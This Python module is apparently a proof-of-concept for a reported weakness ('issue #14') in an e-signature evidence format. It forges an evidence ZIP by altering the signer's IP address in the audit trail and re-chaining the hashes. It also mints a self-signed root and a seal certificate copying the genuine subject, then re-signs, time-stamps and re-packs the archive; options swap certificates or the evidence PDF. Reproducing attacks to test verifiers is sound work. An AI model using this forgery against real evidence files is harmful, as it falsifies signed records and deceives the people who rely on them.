"""The forgery of issue #14, as a forger holding only a genuine evidence ZIP would build it.

Written from the README's published rules and the ZIP itself, on plain ``cryptography``,
``asn1crypto`` and pyHanko (its signer and its local time-stamper), without ``o2s_esign.lib``:

1. rewrite the IP address of a ``signed`` event in ``audit_trail.json``;
2. re-chain every hash (``hash_n = sha256(hash_{n-1} + canonical_json(event_n))``);
3. add a self-signed root of one's own as ``certificates/tsa-root-9.pem`` (listed in the
   manifest);
4. re-seal the new ``manifest.json`` with a detached CMS signature by a key that root
   certifies (time-stamped by a TSA under the same root), and time-stamp it the same way;
5. re-pack the ZIP in the canonical layout (stored entries, the manifest's date, 0644).

Options make the variants: also replace ``company-seal.pem`` (or ``company-ca.pem``) by the
forger's certificate, or put another request's ``evidence.pdf`` in.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from pyhanko.sign import signers
from pyhanko.sign.timestamps.dummy_client import DummyTimeStamper
from pyhanko_certvalidator.registry import SimpleCertificateStore

FORGED_IP = "192.0.2.99"
HASHED = ("request", "sequence", "event_type", "date", "signer", "ip_address", "user_agent",
          "payload")


def _der(cert: x509.Certificate) -> bytes:
    return cert.public_bytes(serialization.Encoding.DER)


def _pem(cert: x509.Certificate) -> bytes:
    return cert.public_bytes(serialization.Encoding.PEM)


def _asn1_key(key) -> asn1_keys.PrivateKeyInfo:
    return asn1_keys.PrivateKeyInfo.load(key.private_bytes(
        serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption()))


class ForgerPki:
    """A self-signed root, a seal certificate named like the company's seal, and a TSA."""

    def __init__(self, seal_subject: x509.Name | None = None):
        now = datetime.now(UTC)
        self.root_key = ec.generate_private_key(ec.SECP256R1())
        root_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Qualified TSA Root 9")])
        self.root = (
            x509.CertificateBuilder().subject_name(root_name).issuer_name(root_name)
            .public_key(self.root_key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - timedelta(days=400)).not_valid_after(now + timedelta(days=3650))
            .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
            .add_extension(x509.KeyUsage(False, False, False, False, False, True, True, False,
                                         False), critical=True)
            .sign(self.root_key, hashes.SHA256()))
        self.seal_key = ec.generate_private_key(ec.SECP256R1())
        seal_name = seal_subject or x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Seal")])
        self.seal = self._issue(seal_name, self.seal_key.public_key(), now, tsa=False)
        self.tsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self.tsa = self._issue(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "TSA 9")]),
                               self.tsa_key.public_key(), now, tsa=True)

    def _issue(self, name, public_key, now, *, tsa):
        builder = (
            x509.CertificateBuilder().subject_name(name).issuer_name(self.root.subject)
            .public_key(public_key).serial_number(x509.random_serial_number())
            .not_valid_before(now - timedelta(days=399)).not_valid_after(now + timedelta(days=1000))
            .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
            .add_extension(x509.KeyUsage(True, True, False, False, False, False, False, False,
                                         False), critical=True))
        if tsa:
            builder = builder.add_extension(
                x509.ExtendedKeyUsage([ExtendedKeyUsageOID.TIME_STAMPING]), critical=True)
        return builder.sign(self.root_key, hashes.SHA256())

    def timestamper(self) -> DummyTimeStamper:
        return DummyTimeStamper(
            tsa_cert=asn1_x509.Certificate.load(_der(self.tsa)), tsa_key=_asn1_key(self.tsa_key),
            certs_to_embed=SimpleCertificateStore.from_certs(
                [asn1_x509.Certificate.load(_der(self.root))]))

    def seal_detached(self, data: bytes) -> bytes:
        signer = signers.SimpleSigner(
            signing_cert=asn1_x509.Certificate.load(_der(self.seal)),
            signing_key=_asn1_key(self.seal_key),
            cert_registry=SimpleCertificateStore.from_certs(
                [asn1_x509.Certificate.load(_der(self.root))]))
        info = asyncio.run(signer.async_sign_general_data(
            data, "sha256", detached=True, timestamper=self.timestamper()))
        return info.dump()

    def timestamp(self, data: bytes) -> bytes:
        token = asyncio.run(self.timestamper().async_timestamp(
            hashlib.sha256(data).digest(), "sha256"))
        return token.dump()


def canonical_json(obj) -> bytes:
    return json.dumps(obj, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def rechain(events: list) -> list:
    previous = "0" * 64
    for event in events:
        event["previous_hash"] = previous
        body = {field: event[field] for field in HASHED}
        event["hash"] = previous = hashlib.sha256(previous.encode() + canonical_json(body)).hexdigest()
    return events


def read_zip(path) -> dict:
    with zipfile.ZipFile(path) as zf:
        return {info.filename: zf.read(info) for info in zf.infolist()}


def write_canonical_zip(path, files: dict, when: datetime):
    """Stored entries, the manifest's time, regular 0644 files made on Unix, nothing else."""
    stamp = (when.year, when.month, when.day, when.hour, when.minute, when.second)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as zf:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, stamp)
            info.create_system = 3
            info.external_attr = 0o100644 << 16
            zf.writestr(info, data)
    return path


def forge(genuine_zip, out_path, *, replace_seal_cert=False, replace_ca=False,
          evidence_pdf: bytes | None = None, edit_trail=True) -> Path:
    """Build the forgery from ``genuine_zip`` into ``out_path`` (see the module docstring)."""
    files = read_zip(genuine_zip)
    manifest = json.loads(files["manifest.json"])
    genuine_seal = x509.load_pem_x509_certificate(files["certificates/company-seal.pem"])
    pki = ForgerPki(seal_subject=genuine_seal.subject)
    changed = {}
    if edit_trail:
        audit = json.loads(files["audit_trail.json"])
        signed = next(e for e in audit["events"] if e["event_type"] == "signed")
        signed["ip_address"] = FORGED_IP
        rechain(audit["events"])
        changed["audit_trail.json"] = (json.dumps(audit, indent=2, sort_keys=True,
                                                  ensure_ascii=False) + "\n").encode()
        manifest["chain_head"] = audit["events"][-1]["hash"]
        manifest["event_count"] = len(audit["events"])
    changed["certificates/tsa-root-9.pem"] = _pem(pki.root)
    if replace_seal_cert:
        changed["certificates/company-seal.pem"] = _pem(pki.seal)
    if replace_ca:
        changed["certificates/company-ca.pem"] = _pem(pki.root)
    if evidence_pdf is not None:
        changed["evidence.pdf"] = evidence_pdf
    seal_files = {n: files.pop(n) for n in ("manifest.json", "manifest.json.p7s",
                                            "timestamps/manifest.json.tsr") if n in files}
    files.update(changed)
    for name, data in changed.items():
        manifest["files"][name] = hashlib.sha256(data).hexdigest()
    manifest["files"] = dict(sorted(manifest["files"].items()))
    manifest_bytes = (json.dumps(manifest, indent=2, sort_keys=True, ensure_ascii=False)
                      + "\n").encode()
    files["manifest.json"] = manifest_bytes
    files["manifest.json.p7s"] = pki.seal_detached(manifest_bytes)
    if "timestamps/manifest.json.tsr" in seal_files:
        files["timestamps/manifest.json.tsr"] = pki.timestamp(manifest_bytes)
    generated = manifest["generated_at"].rstrip("Z").split(".")[0]
    return write_canonical_zip(out_path, files, datetime.strptime(generated, "%Y-%m-%dT%H:%M:%S"))
